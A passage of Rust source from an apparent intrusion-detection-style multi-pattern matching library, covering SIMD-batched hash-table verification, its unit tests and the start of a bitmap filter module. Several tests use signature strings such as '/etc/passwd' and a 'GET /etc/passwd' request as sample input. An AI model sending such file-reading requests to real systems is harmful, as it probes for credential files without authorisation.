    pub fn verify_batch<B: VectorBackend<W>, const W: usize>(
        &self,
        haystack: &[u8],
        positions: &[u32],
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        if self.entries.is_empty() || positions.is_empty() {
            return 0;
        }
        // Monomorphize over the fold mode: case-sensitive-only tables keep a
        // dedicated kernel with no fold instructions and no per-entry case
        // branch, mirroring the engines' `const FOLD` filter kernels.
        if self.folded {
            self.verify_batch_impl::<B, W, true>(haystack, positions, out)
        } else {
            self.verify_batch_impl::<B, W, false>(haystack, positions, out)
        }
    }

    fn verify_batch_impl<B: VectorBackend<W>, const W: usize, const FOLD: bool>(
        &self,
        haystack: &[u8],
        positions: &[u32],
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        let mut comparisons = 0u64;
        let mut buckets = [0u32; BATCH_BLOCK];
        // The whole batch runs inside the backend's dispatch trampoline so
        // the gathers, folds and masked compares inline into one kernel.
        B::dispatch(|| {
            for block in positions.chunks(BATCH_BLOCK) {
                self.compute_buckets::<B, W, FOLD>(haystack, block, &mut buckets);
                comparisons += self.drain_pipelined::<B, W, FOLD>(
                    haystack,
                    block,
                    &buckets[..block.len()],
                    out,
                );
            }
        });
        comparisons
    }

    /// Computes the bucket index of every candidate in `block` into
    /// `buckets`, `W` lanes at a time ([`SKIP_BUCKET`] for candidates whose
    /// prefix window does not fit the haystack).
    #[inline(always)]
    fn compute_buckets<B: VectorBackend<W>, const W: usize, const FOLD: bool>(
        &self,
        haystack: &[u8],
        block: &[u32],
        buckets: &mut [u32; BATCH_BLOCK],
    ) {
        let n = haystack.len();
        let shift = 32 - self.bucket_bits;
        let mut i = 0usize;
        while i + W <= block.len() {
            let chunk: [u32; W] = block[i..i + W].try_into().expect("chunk is W long");
            // The 4-byte gather reads `pos .. pos + 4`; candidates closer
            // than GATHER_PADDING to the end take the scalar detour below.
            if chunk.iter().all(|&p| p as usize + GATHER_PADDING <= n) {
                let windows = B::gather_u32(haystack, B::from_array(chunk));
                let windows = if FOLD {
                    B::to_ascii_lower(windows)
                } else {
                    windows
                };
                let idx = match self.prefix_len {
                    1 => B::and_const(windows, 0xff),
                    2 => B::and_const(windows, 0xffff),
                    3 => B::hash_mul_shift(
                        B::and_const(windows, 0x00ff_ffff),
                        HASH_MULTIPLIER,
                        shift,
                        u32::MAX,
                    ),
                    _ => B::hash_mul_shift(windows, HASH_MULTIPLIER, shift, u32::MAX),
                };
                buckets[i..i + W].copy_from_slice(&B::to_array(idx));
            } else {
                for (j, &p) in chunk.iter().enumerate() {
                    buckets[i + j] = self.scalar_bucket(haystack, p as usize);
                }
            }
            i += W;
        }
        for (j, &p) in block[i..].iter().enumerate() {
            buckets[i + j] = self.scalar_bucket(haystack, p as usize);
        }
    }

    /// Scalar bucket computation for candidates the gather cannot reach
    /// (block tails and positions within [`GATHER_PADDING`] of the end).
    #[inline]
    fn scalar_bucket(&self, haystack: &[u8], pos: usize) -> u32 {
        if pos + self.prefix_len > haystack.len() {
            SKIP_BUCKET
        } else {
            Self::index_of(
                &haystack[pos..],
                self.prefix_len,
                self.bucket_bits,
                self.folded,
            )
        }
    }

    /// Issues best-effort prefetches for the bucket rows of the leading
    /// `limit` candidates, without verifying anything. The scan graph's
    /// overlapped executor calls this (via `ScanOp::prime`) before running
    /// the *next* chunk's filter pass, so by the time
    /// [`CompactHashTable::verify_batch`] starts on these candidates its
    /// first `bucket_starts` rows are already in flight — the cross-chunk
    /// software-pipelining hook. Read-only; has no observable effect on
    /// results.
    pub fn prefetch_candidates(&self, haystack: &[u8], positions: &[u32], limit: usize) {
        if self.entries.is_empty() {
            return;
        }
        for &pos in positions.iter().take(limit) {
            let b = self.scalar_bucket(haystack, pos as usize);
            if b != SKIP_BUCKET {
                prefetch_read(&self.bucket_starts[b as usize]);
            }
        }
    }

    /// Drains one block of candidates through the K-deep prefetch pipeline.
    #[inline(always)]
    fn drain_pipelined<B: VectorBackend<W>, const W: usize, const FOLD: bool>(
        &self,
        haystack: &[u8],
        block: &[u32],
        buckets: &[u32],
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        let len = block.len();
        let arena = self.arena.bytes();
        // Prologue: request the bucket offsets of the first K candidates so
        // the steady-state stages below find them resident.
        for &b in buckets.iter().take(PREFETCH_DISTANCE.min(len)) {
            if b != SKIP_BUCKET {
                prefetch_read(&self.bucket_starts[b as usize]);
            }
        }
        let mut comparisons = 0u64;
        for i in 0..len {
            // Stage 1 (distance K): bucket offsets of candidate i + K.
            if i + PREFETCH_DISTANCE < len {
                let b = buckets[i + PREFETCH_DISTANCE];
                if b != SKIP_BUCKET {
                    prefetch_read(&self.bucket_starts[b as usize]);
                }
            }
            // Stage 2 (distance K/2): entry row of candidate i + K/2; its
            // bucket offset was prefetched K/2 iterations ago.
            if i + ENTRY_PREFETCH_DISTANCE < len {
                let b = buckets[i + ENTRY_PREFETCH_DISTANCE];
                if b != SKIP_BUCKET {
                    let start = self.bucket_starts[b as usize] as usize;
                    if let Some(entry) = self.entries.get(start) {
                        prefetch_read(entry);
                    }
                }
            }
            // Stage 3 (distance 2): arena line of candidate i + 2's first
            // entry; the entry row is resident from stage 2.
            if i + ARENA_PREFETCH_DISTANCE < len {
                let b = buckets[i + ARENA_PREFETCH_DISTANCE];
                if b != SKIP_BUCKET {
                    let start = self.bucket_starts[b as usize] as usize;
                    let end = self.bucket_starts[b as usize + 1] as usize;
                    if start < end {
                        prefetch_read(&arena[self.entries[start].offset as usize]);
                    }
                }
            }
            // Stage 0: verify candidate i — every load it performs was
            // requested stages ago.
            let b = buckets[i];
            if b == SKIP_BUCKET {
                continue;
            }
            let start = self.bucket_starts[b as usize] as usize;
            let end = self.bucket_starts[b as usize + 1] as usize;
            let pos = block[i] as usize;
            for entry in &self.entries[start..end] {
                let elen = entry.len as usize;
                if pos + elen > haystack.len() {
                    continue;
                }
                comparisons += 1;
                let pattern = &arena[entry.offset as usize..entry.offset as usize + elen];
                let window = &haystack[pos..pos + elen];
                let hit = if FOLD && entry.nocase {
                    B::eq_window_nocase(window, pattern)
                } else {
                    B::eq_window(window, pattern)
                };
                if hit {
                    out.push(MatchEvent::new(pos, entry.id));
                }
            }
        }
        comparisons
    }

    /// The bucket index touched by a candidate at `pos`, or `None` if the
    /// window does not fit. Exposed for the cache simulator, which needs the
    /// address of the bucket a verification access reads.
    pub fn bucket_of(&self, haystack: &[u8], pos: usize) -> Option<usize> {
        if pos + self.prefix_len > haystack.len() {
            None
        } else {
            Some(Self::index_of(
                &haystack[pos..],
                self.prefix_len,
                self.bucket_bits,
                self.folded,
            ) as usize)
        }
    }

    /// True if the bucket index is computed over ASCII-case-folded bytes.
    pub fn is_folded(&self) -> bool {
        self.folded
    }

    /// Approximate byte offset of a bucket inside the table's memory, for the
    /// cache simulator's address model.
    pub fn bucket_offset_bytes(&self, bucket: usize) -> usize {
        self.bucket_starts[bucket] as usize * std::mem::size_of::<Entry>()
    }
}

/// The two-table verifier used by S-PATCH / V-PATCH: short patterns
/// (1–3 bytes) verified through a byte-indexed table, long patterns
/// (≥ 4 bytes) through a 4-byte-hash-indexed table.
#[derive(Clone, Debug)]
pub struct Verifier {
    short: CompactHashTable,
    long: CompactHashTable,
}

/// Default bucket bits for the long-pattern table (2^16 buckets ≈ what DFC
/// sizes its compact tables to for tens of thousands of patterns).
pub const DEFAULT_LONG_BUCKET_BITS: u32 = 16;

impl Verifier {
    /// Builds the verifier for `set`. When the set contains any `nocase`
    /// pattern both tables are built in folded mode (the engines fold their
    /// filter tables and input windows to match); a case-sensitive-only set
    /// gets exactly the byte-exact tables it always had.
    pub fn build(set: &PatternSet) -> Self {
        let folded = set.has_nocase();
        Verifier {
            short: CompactHashTable::build_with_fold(set, 1, 8, folded, |p| p.len() < 4),
            long: CompactHashTable::build_with_fold(
                set,
                4,
                DEFAULT_LONG_BUCKET_BITS,
                folded,
                |p| p.len() >= 4,
            ),
        }
    }

    /// Builds the verifier for one port group against a shared
    /// [`PatternArena`]: pattern bytes are offset references into the arena
    /// (see [`CompactHashTable::build_shared_with_fold`]) and the
    /// long-pattern table's bucket count is sized to the group's actual
    /// entry count ([`bucket_bits_for_entries`]) instead of the monolithic
    /// [`DEFAULT_LONG_BUCKET_BITS`]. Lookup semantics are identical to
    /// [`Verifier::build`]; only the memory layout changes.
    ///
    /// Every pattern of `set` must already be interned in `arena`.
    pub fn build_with_arena(set: &PatternSet, arena: &PatternArena) -> Self {
        let folded = set.has_nocase();
        let long_count = set.iter().filter(|(_, p)| p.len() >= 4).count();
        Verifier {
            short: CompactHashTable::build_shared_with_fold(
                set,
                1,
                8,
                folded,
                |p| p.len() < 4,
                arena,
            ),
            long: CompactHashTable::build_shared_with_fold(
                set,
                4,
                bucket_bits_for_entries(long_count),
                folded,
                |p| p.len() >= 4,
                arena,
            ),
        }
    }

    /// Verifies a candidate produced by the short-pattern filter (filter 1).
    /// Returns the number of pattern comparisons performed.
    #[inline]
    pub fn verify_short(&self, haystack: &[u8], pos: usize, out: &mut Vec<MatchEvent>) -> usize {
        self.short.verify_at(haystack, pos, out)
    }

    /// Verifies a candidate produced by the long-pattern filters
    /// (filters 2 + 3). Returns the number of pattern comparisons performed.
    #[inline]
    pub fn verify_long(&self, haystack: &[u8], pos: usize, out: &mut Vec<MatchEvent>) -> usize {
        self.long.verify_at(haystack, pos, out)
    }

    /// Batched verification of a whole short-candidate array (`A_short`):
    /// semantically identical to [`Verifier::verify_short`] per position, but
    /// SIMD-indexed, prefetch-pipelined and vector-compared — see
    /// [`CompactHashTable::verify_batch`].
    #[inline]
    pub fn verify_short_batch<B: VectorBackend<W>, const W: usize>(
        &self,
        haystack: &[u8],
        positions: &[u32],
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        self.short.verify_batch::<B, W>(haystack, positions, out)
    }

    /// Batched verification of a whole long-candidate array (`A_long`); see
    /// [`Verifier::verify_short_batch`].
    #[inline]
    pub fn verify_long_batch<B: VectorBackend<W>, const W: usize>(
        &self,
        haystack: &[u8],
        positions: &[u32],
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        self.long.verify_batch::<B, W>(haystack, positions, out)
    }

    /// Prefetches the bucket rows of the leading short/long candidates (see
    /// [`CompactHashTable::prefetch_candidates`]); the engines' graph verify
    /// operators call this from their `prime` hook.
    pub fn prefetch_batches(&self, haystack: &[u8], short: &[u32], long: &[u32], limit: usize) {
        self.short.prefetch_candidates(haystack, short, limit);
        self.long.prefetch_candidates(haystack, long, limit);
    }

    /// The short-pattern table.
    pub fn short_table(&self) -> &CompactHashTable {
        &self.short
    }

    /// The long-pattern table.
    pub fn long_table(&self) -> &CompactHashTable {
        &self.long
    }

    /// Approximate resident size of both tables.
    pub fn heap_bytes(&self) -> usize {
        self.short.heap_bytes() + self.long.heap_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::{naive::naive_find_all, Pattern, PatternSet};

    fn mixed_set() -> PatternSet {
        PatternSet::new(vec![
            Pattern::literal(*b"GET"),
            Pattern::literal(*b"x"),
            Pattern::literal(*b"ab"),
            Pattern::literal(*b"attack-vector"),
            Pattern::literal(*b"attribute"),
            Pattern::literal(*b"/etc/passwd"),
            Pattern::literal(*b"abcd"),
        ])
    }

    #[test]
    fn hash32_is_deterministic_and_bounded() {
        for bits in 1..=24u32 {
            let h = hash32(0xdead_beef, bits);
            assert!(h < (1 << bits));
            assert_eq!(h, hash32(0xdead_beef, bits));
        }
    }

    #[test]
    fn verifier_confirms_exactly_the_true_matches() {
        let set = mixed_set();
        let v = Verifier::build(&set);
        let hay = b"GET /etc/passwd HTTP/1.1 attribute=abcd x attack-vector";
        // Every position is a candidate: verification alone must reproduce
        // the naive result (filters only ever reduce the candidate set).
        let mut out = Vec::new();
        for pos in 0..hay.len() {
            v.verify_short(hay, pos, &mut out);
            v.verify_long(hay, pos, &mut out);
        }
        mpm_patterns::matcher::normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, hay));
    }

    #[test]
    fn short_and_long_tables_partition_the_set() {
        let set = mixed_set();
        let v = Verifier::build(&set);
        assert_eq!(v.short_table().pattern_count(), 3); // GET, x, ab
        assert_eq!(v.long_table().pattern_count(), 4);
        assert_eq!(v.short_table().min_pattern_len(), 1);
        assert_eq!(v.long_table().min_pattern_len(), 4);
    }

    #[test]
    fn prefix_collisions_are_resolved_by_exact_comparison() {
        // "attribute" and "attack" share the 4-byte prefix "atta": the bucket
        // holds both, but only the pattern actually present is reported.
        let set = PatternSet::from_literals(&["attribute", "attack"]);
        let table = CompactHashTable::build(&set, 4, 10, |_| true);
        let hay = b"an attribute is not an attack ";
        let mut out = Vec::new();
        for pos in 0..hay.len() {
            table.verify_at(hay, pos, &mut out);
        }
        mpm_patterns::matcher::normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, hay));
    }

    #[test]
    fn folded_verifier_is_exact_on_mixed_case_sets() {
        // Mixed set: nocase and case-sensitive patterns sharing prefixes.
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"GET /Admin"),
            Pattern::literal(*b"get /admin"),
            Pattern::literal_nocase(*b"XyZ"),
            Pattern::literal(*b"xyz"),
            Pattern::literal_nocase(*b"q"),
        ]);
        let v = Verifier::build(&set);
        assert!(v.short_table().is_folded());
        assert!(v.long_table().is_folded());
        let hay = b"GET /ADMIN get /admin XYZ xyz Q q";
        let mut out = Vec::new();
        for pos in 0..hay.len() {
            v.verify_short(hay, pos, &mut out);
            v.verify_long(hay, pos, &mut out);
        }
        mpm_patterns::matcher::normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, hay));
    }

    #[test]
    fn case_sensitive_only_sets_build_unfolded_tables() {
        let v = Verifier::build(&mixed_set());
        assert!(!v.short_table().is_folded());
        assert!(!v.long_table().is_folded());
    }

    #[test]
    #[should_panic(expected = "requires a folded table")]
    fn unfolded_table_rejects_nocase_patterns() {
        let set = PatternSet::new(vec![Pattern::literal_nocase(*b"abcd")]);
        let _ = CompactHashTable::build(&set, 4, 8, |_| true);
    }

    #[test]
    fn empty_table_verifies_nothing() {
        let set = PatternSet::from_literals(&["abcd"]);
        let table = CompactHashTable::build(&set, 1, 8, |p| p.len() > 100);
        assert!(table.is_empty());
        let mut out = Vec::new();
        assert_eq!(table.verify_at(b"abcd", 0, &mut out), 0);
        assert!(out.is_empty());
    }

    #[test]
    fn candidate_at_end_of_input_is_safe() {
        let set = mixed_set();
        let v = Verifier::build(&set);
        let hay = b"zzGET";
        let mut out = Vec::new();
        // Positions near/after the end must not panic.
        for pos in 0..=hay.len() + 2 {
            v.verify_short(hay, pos.min(hay.len()), &mut out);
            v.verify_long(hay, pos.min(hay.len()), &mut out);
        }
        mpm_patterns::matcher::normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, hay));
    }

    #[test]
    fn comparisons_counter_counts_bucket_entries() {
        let set = PatternSet::from_literals(&["attribute", "attack", "attach"]);
        let table = CompactHashTable::build(&set, 4, 8, |_| true);
        let mut out = Vec::new();
        let n = table.verify_at(b"attack now", 0, &mut out);
        assert_eq!(n, 2, "'attack' and 'attach' share the bucket prefix 'atta'");
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn comparisons_counter_excludes_entries_skipped_at_buffer_end() {
        // "attack" and "attach" share the bucket prefix "atta". On a buffer
        // that ends right after the prefix, neither pattern fits: the bounds
        // check skips both entries without comparing a byte, so the counter
        // must report 0 — not the bucket size.
        let set = PatternSet::from_literals(&["attack", "attach"]);
        let table = CompactHashTable::build(&set, 4, 8, |_| true);
        let mut out = Vec::new();
        assert_eq!(table.verify_at(b"zzatta", 2, &mut out), 0);
        assert!(out.is_empty());
        // One byte more and both 6-byte patterns still don't fit.
        assert_eq!(table.verify_at(b"zzattac", 2, &mut out), 0);
        assert!(out.is_empty());
        // With the full window present both entries are genuinely compared.
        assert_eq!(table.verify_at(b"zzattack", 2, &mut out), 2);
        assert_eq!(out.len(), 1);
        // Mixed-length bucket: only the entries that fit are counted.
        let set = PatternSet::from_literals(&["atta", "attack"]);
        let table = CompactHashTable::build(&set, 4, 8, |_| true);
        let mut out = Vec::new();
        assert_eq!(
            table.verify_at(b"atta", 0, &mut out),
            1,
            "only the 4-byte pattern fits and is compared"
        );
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn verify_batch_equals_per_candidate_on_every_table_shape() {
        use mpm_simd::ScalarBackend;
        // One table per prefix length, mixed folded/unfolded.
        let exact = PatternSet::from_literals(&[
            "x",
            "ab",
            "abc",
            "abcd",
            "attack",
            "attach",
            "attribute",
            "/etc/passwd",
        ]);
        let folded = PatternSet::new(vec![
            Pattern::literal_nocase(*b"GeT"),
            Pattern::literal(*b"get"),
            Pattern::literal_nocase(*b"AtTaCk"),
            Pattern::literal_nocase(*b"Q"),
            Pattern::literal(*b"abcd"),
        ]);
        let hay = b"GET get attack ATTACK abcd attribute q Q x ab /etc/passwd atta";
        for (set, fold) in [(&exact, false), (&folded, true)] {
            for (prefix_len, bits) in [(1usize, 8u32), (2, 16), (3, 10), (4, 12)] {
                let table = CompactHashTable::build_with_fold(set, prefix_len, bits, fold, |p| {
                    p.len() >= prefix_len
                });
                let positions: Vec<u32> = (0..hay.len() as u32).collect();
                let mut expected = Vec::new();
                let mut expected_cmp = 0u64;
                for &p in &positions {
                    expected_cmp += table.verify_at(hay, p as usize, &mut expected) as u64;
                }
                let mut got = Vec::new();
                let got_cmp = table.verify_batch::<ScalarBackend, 8>(hay, &positions, &mut got);
                assert_eq!(got, expected, "prefix {prefix_len} fold {fold}");
                assert_eq!(got_cmp, expected_cmp, "prefix {prefix_len} fold {fold}");
            }
        }
    }

    #[test]
    fn verify_batch_handles_out_of_gather_range_and_empty_positions() {
        use mpm_simd::ScalarBackend;
        let set = mixed_set();
        let v = Verifier::build(&set);
        let hay = b"xGET";
        // Positions at and past the last gatherable window, plus pos == len
        // boundary values: the scalar detour must keep the batch total.
        let positions: Vec<u32> = (0..=hay.len() as u32).collect();
        let mut expected = Vec::new();
        for &p in &positions {
            v.verify_short(hay, p as usize, &mut expected);
            v.verify_long(hay, p as usize, &mut expected);
        }
        let mut got = Vec::new();
        v.verify_short_batch::<ScalarBackend, 8>(hay, &positions, &mut got);
        v.verify_long_batch::<ScalarBackend, 8>(hay, &positions, &mut got);
        mpm_patterns::matcher::normalize_matches(&mut expected);
        mpm_patterns::matcher::normalize_matches(&mut got);
        assert_eq!(got, expected);
        // Empty candidate arrays are a no-op.
        assert_eq!(
            v.verify_short_batch::<ScalarBackend, 8>(hay, &[], &mut got),
            0
        );
    }

    #[test]
    fn verify_batch_spans_multiple_blocks() {
        use mpm_simd::ScalarBackend;
        // More candidates than BATCH_BLOCK so block seams are crossed, with
        // matches sprinkled throughout.
        let set = PatternSet::from_literals(&["needle", "ne", "n"]);
        let hay: Vec<u8> = b"a needle in a haystack ".repeat(40);
        let v = Verifier::build(&set);
        let positions: Vec<u32> = (0..hay.len() as u32).collect();
        assert!(positions.len() > 3 * 128);
        let mut expected = Vec::new();
        let mut expected_cmp = 0u64;
        for &p in &positions {
            expected_cmp += v.verify_short(&hay, p as usize, &mut expected) as u64;
            expected_cmp += v.verify_long(&hay, p as usize, &mut expected) as u64;
        }
        let mut got = Vec::new();
        let mut got_cmp = v.verify_short_batch::<ScalarBackend, 8>(&hay, &positions, &mut got);
        got_cmp += v.verify_long_batch::<ScalarBackend, 8>(&hay, &positions, &mut got);
        mpm_patterns::matcher::normalize_matches(&mut expected);
        mpm_patterns::matcher::normalize_matches(&mut got);
        assert_eq!(got, expected);
        assert_eq!(got_cmp, expected_cmp);
    }

    #[test]
    fn direct_indexed_two_byte_table() {
        let set = PatternSet::from_literals(&["ab", "abc", "zz"]);
        let table = CompactHashTable::build(&set, 2, 0, |_| true);
        let mut out = Vec::new();
        table.verify_at(b"abc", 0, &mut out);
        assert_eq!(out.len(), 2);
        out.clear();
        table.verify_at(b"zz", 0, &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    #[should_panic(expected = "shorter than table prefix")]
    fn building_with_too_short_patterns_panics() {
        let set = PatternSet::from_literals(&["ab"]);
        let _ = CompactHashTable::build(&set, 4, 8, |_| true);
    }

    #[test]
    fn heap_bytes_reflects_arena_size() {
        let set = mixed_set();
        let v = Verifier::build(&set);
        let total_pattern_bytes: usize = set.patterns().iter().map(|p| p.len()).sum();
        assert!(v.heap_bytes() >= total_pattern_bytes);
    }

    #[test]
    fn bucket_bits_scale_with_entry_count() {
        assert_eq!(bucket_bits_for_entries(0), 6);
        assert_eq!(bucket_bits_for_entries(1), 6);
        assert_eq!(bucket_bits_for_entries(40), 7);
        assert_eq!(bucket_bits_for_entries(600), 11);
        assert_eq!(bucket_bits_for_entries(30_000), 16);
        assert_eq!(bucket_bits_for_entries(1 << 20), 16, "clamped");
    }

    fn arena_for(set: &PatternSet) -> mpm_patterns::PatternArena {
        let mut b = mpm_patterns::ArenaBuilder::new();
        for p in set.patterns() {
            b.intern(p.bytes());
        }
        b.finish()
    }

    #[test]
    fn shared_arena_verifier_matches_owned_verifier_exactly() {
        use mpm_simd::ScalarBackend;
        let sets = [
            mixed_set(),
            PatternSet::new(vec![
                Pattern::literal_nocase(*b"GET /Admin"),
                Pattern::literal(*b"get /admin"),
                Pattern::literal_nocase(*b"XyZ"),
                Pattern::literal(*b"x"),
            ]),
        ];
        let hay = b"GET /ADMIN get /admin XYZ xyz attribute=abcd x attack-vector /etc/passwd";
        for set in &sets {
            let owned = Verifier::build(set);
            let shared = Verifier::build_with_arena(set, &arena_for(set));
            assert!(shared.short_table().uses_shared_arena());
            assert!(shared.long_table().uses_shared_arena());
            let positions: Vec<u32> = (0..hay.len() as u32).collect();
            let mut want = Vec::new();
            let mut got = Vec::new();
            for &p in &positions {
                owned.verify_short(hay, p as usize, &mut want);
                owned.verify_long(hay, p as usize, &mut want);
                shared.verify_short(hay, p as usize, &mut got);
                shared.verify_long(hay, p as usize, &mut got);
            }
            assert_eq!(got, want);
            // The batched path reads through the shared arena too.
            let mut batch = Vec::new();
            shared.verify_short_batch::<ScalarBackend, 8>(hay, &positions, &mut batch);
            shared.verify_long_batch::<ScalarBackend, 8>(hay, &positions, &mut batch);
            mpm_patterns::matcher::normalize_matches(&mut want);
            mpm_patterns::matcher::normalize_matches(&mut batch);
            assert_eq!(batch, want);
        }
    }

    #[test]
    fn shared_arena_tables_report_zero_arena_bytes() {
        let set = mixed_set();
        let arena = arena_for(&set);
        let owned = Verifier::build(&set);
        let shared = Verifier::build_with_arena(&set, &arena);
        let owned_pattern_bytes: usize = set.patterns().iter().map(|p| p.len()).sum();
        // The shared build drops the pattern bytes from both tables (they
        // are charged to the arena owner) and shrinks the long table's
        // bucket array to the entry count.
        assert!(shared.heap_bytes() + owned_pattern_bytes <= owned.heap_bytes());
        assert!(shared.long_table().bucket_bits() < DEFAULT_LONG_BUCKET_BITS);
    }

    #[test]
    #[should_panic(expected = "not interned")]
    fn shared_build_requires_interned_patterns() {
        let set = PatternSet::from_literals(&["abcd"]);
        let empty = mpm_patterns::ArenaBuilder::new().finish();
        let _ = Verifier::build_with_arena(&set, &empty);
    }
}
