//! Cache-resident bitmap filters shared by the DFC, S-PATCH and V-PATCH
//! engines.
//!
//! Two kinds of filter appear in the paper:
//!
//! * [`DirectFilter`] — one bit per possible 2-byte window (2^16 bits =
//!   8 KB), indexed directly by the window value. DFC's initial filter and
//!   S-PATCH's filters 1 and 2 are of this kind.
//! * [`HashedFilter`] — a bitmap indexed by a multiplicative hash of a
//!   4-byte window. S-PATCH's filter 3 (and DFC's "progressive" filters for
//!   long patterns) are of this kind; the hash keeps the filter small enough
//!   to stay in L1/L2 while still consulting four bytes of context.
//!
//! Both filters expose their backing byte array (padded by the
//! `mpm_simd`-compatible [`FILTER_PADDING`] of 4 bytes) so the vectorized
//! engines can gather
//! from them directly, and both offer a *merged* layout helper
//! ([`MergedDirectFilters`]) implementing the paper's filter-merging
//! optimisation: filters 1 and 2 interleaved so one gather fetches both
//! (Figure 3).

use mpm_patterns::PatternSet;

/// Extra bytes appended to every filter's backing storage so 4-byte-per-lane
/// hardware gathers never read past the allocation (see `mpm_simd`).
pub const FILTER_PADDING: usize = 4;

/// Full-size direct filter: one bit per possible 2-byte window.
pub const DIRECT_FILTER_FULL_BITS: u32 = 16;

/// Smallest direct filter considered worthwhile (2^10 bits = 128 B). The
/// lower bound also guarantees the index keeps at least the low 3 bits of
/// the window, so the byte/bit split (`window >> 3`, `window & 7`) the SIMD
/// `test_window_bits` contract relies on survives masking.
pub const DIRECT_FILTER_MIN_BITS: u32 = 10;

/// Index bits for a direct filter expected to hold `windows` distinct
/// 2-byte windows: sized so at most ~1/8 of the bits are set (three bits of
/// headroom over ⌈log₂ windows⌉), clamped to
/// [`DIRECT_FILTER_MIN_BITS`]..=[`DIRECT_FILTER_FULL_BITS`]. This is the
/// group-adaptive sizing rule: a port group with a dozen patterns gets a
/// 128 B filter instead of the monolithic 8 KB one.
pub fn direct_filter_bits_for(windows: usize) -> u32 {
    let n = windows.max(1);
    let ceil_log2 = usize::BITS - (n - 1).leading_zeros();
    (ceil_log2 + 3).clamp(DIRECT_FILTER_MIN_BITS, DIRECT_FILTER_FULL_BITS)
}

/// Number of 2-byte windows the selected patterns will set in a direct
/// filter (1-byte patterns set all 256 windows starting with their byte);
/// the sizing input for [`direct_filter_bits_for`]. An over-count from
/// shared prefixes only ever rounds the filter up.
pub fn direct_filter_window_count<F: Fn(&mpm_patterns::Pattern) -> bool>(
    set: &PatternSet,
    select: F,
) -> usize {
    set.iter()
        .filter(|(_, p)| select(p))
        .map(|(_, p)| if p.len() == 1 { 256 } else { 1 })
        .sum()
}

/// A direct-indexed one-bit-per-window filter over the low `bits_log2` bits
/// of a 2-byte window (8 KB + padding at the default full size). Sizes
/// below 16 bits alias windows modulo `2^bits_log2` — strictly more false
/// positives, never a false negative, so exact verification downstream
/// keeps the engine sound.
#[derive(Clone, Debug)]
pub struct DirectFilter {
    bits: Vec<u8>,
    bits_log2: u32,
}

impl Default for DirectFilter {
    fn default() -> Self {
        Self::new()
    }
}

impl DirectFilter {
    /// Creates an empty full-size (2^16-bit) filter.
    pub fn new() -> Self {
        Self::with_bits(DIRECT_FILTER_FULL_BITS)
    }

    /// Creates an empty filter over `2^bits_log2` bits (clamped to
    /// [`DIRECT_FILTER_MIN_BITS`]..=[`DIRECT_FILTER_FULL_BITS`]).
    pub fn with_bits(bits_log2: u32) -> Self {
        let bits_log2 = bits_log2.clamp(DIRECT_FILTER_MIN_BITS, DIRECT_FILTER_FULL_BITS);
        DirectFilter {
            bits: vec![0u8; (1usize << bits_log2) / 8 + FILTER_PADDING],
            bits_log2,
        }
    }

    /// Builds a filter whose bit is set for the first two bytes of every
    /// pattern selected by `select`. Patterns of length 1 set the bits for
    /// **all** 256 windows beginning with their byte, so a 2-byte sliding
    /// window can still detect them (this is how DFC handles 1-byte
    /// patterns).
    pub fn build<F: Fn(&mpm_patterns::Pattern) -> bool>(set: &PatternSet, select: F) -> Self {
        Self::build_with_fold(set, false, select)
    }

    /// Builds the filter over **ASCII-case-folded** prefix bytes when
    /// `folded` is true (the filter-folded / verify-exact design for sets
    /// containing `nocase` patterns: engines fold the input windows the same
    /// way before the lookup, so folding only ever adds candidates and
    /// verification restores per-pattern exactness). With `folded == false`
    /// this is exactly [`DirectFilter::build`].
    pub fn build_with_fold<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        folded: bool,
        select: F,
    ) -> Self {
        Self::build_sized_with_fold(set, DIRECT_FILTER_FULL_BITS, folded, select)
    }

    /// [`DirectFilter::build_with_fold`] into a `2^bits_log2`-bit filter —
    /// the group-adaptive entry point (size via [`direct_filter_bits_for`]
    /// over [`direct_filter_window_count`]).
    pub fn build_sized_with_fold<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        bits_log2: u32,
        folded: bool,
        select: F,
    ) -> Self {
        let fold = |b: u8| mpm_patterns::fold_byte(b, folded);
        let mut filter = DirectFilter::with_bits(bits_log2);
        for (_, p) in set.iter() {
            if !select(p) {
                continue;
            }
            assert!(
                folded || !p.is_nocase(),
                "nocase pattern in an unfolded filter would silently match case-sensitively"
            );
            let bytes = p.bytes();
            if bytes.len() >= 2 {
                filter.set(u16::from_le_bytes([fold(bytes[0]), fold(bytes[1])]));
            } else {
                for second in 0..=255u8 {
                    filter.set(u16::from_le_bytes([fold(bytes[0]), second]));
                }
            }
        }
        filter
    }

    /// Sets the bit for a window value (masked to the filter's index space).
    #[inline]
    pub fn set(&mut self, window: u16) {
        let w = (window as u32) & self.window_mask();
        self.bits[(w >> 3) as usize] |= 1 << (w & 7);
    }

    /// Tests the bit for a window value.
    #[inline]
    pub fn contains(&self, window: u16) -> bool {
        let w = (window as u32) & self.window_mask();
        (self.bits[(w >> 3) as usize] >> (w & 7)) & 1 != 0
    }

    /// Number of index bits (`log2` of the bit count; 16 for a full filter).
    #[inline]
    pub fn bits_log2(&self) -> u32 {
        self.bits_log2
    }

    /// Mask folding a raw window value into this filter's index space.
    /// Always keeps the low 3 bits, so `window & 7` stays the bit index.
    #[inline]
    pub fn window_mask(&self) -> u32 {
        (1u32 << self.bits_log2) - 1
    }

    /// Mask to apply to a raw **byte index** (`window >> 3`) to land inside
    /// this filter's backing array — the SIMD gather form of
    /// [`DirectFilter::window_mask`].
    #[inline]
    pub fn gather_index_mask(&self) -> u32 {
        self.window_mask() >> 3
    }

    /// Number of set bits (used by tests and the filtering-rate analysis).
    pub fn popcount(&self) -> usize {
        self.bits.iter().map(|b| b.count_ones() as usize).sum()
    }

    /// The backing byte array (padded), for gather-based lookups. Index
